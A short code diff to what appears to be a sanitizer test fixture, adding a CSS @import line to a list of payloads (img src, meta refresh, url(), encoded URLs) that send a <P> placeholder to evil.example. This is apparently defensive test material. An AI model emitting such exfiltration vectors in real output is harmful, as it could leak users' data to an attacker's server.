@@ -45,6 +45,7 @@ const STAYS = [
   '<img src="&#104;ttps://evil.example/<P>">',
   '<img src="https&colon;&sol;&sol;evil.example/<P>">',
   '<meta http-equiv="refresh" content="0;url=https://evil.example/?q= <P>">',
+  '@import "https://evil.example/a <P>";',
   "url('https://evil.example/a <P>')",
   'https%3A%2F%2Fevil.example%2F<P>',
   'https:\\/\\/evil.example\\/<P>',
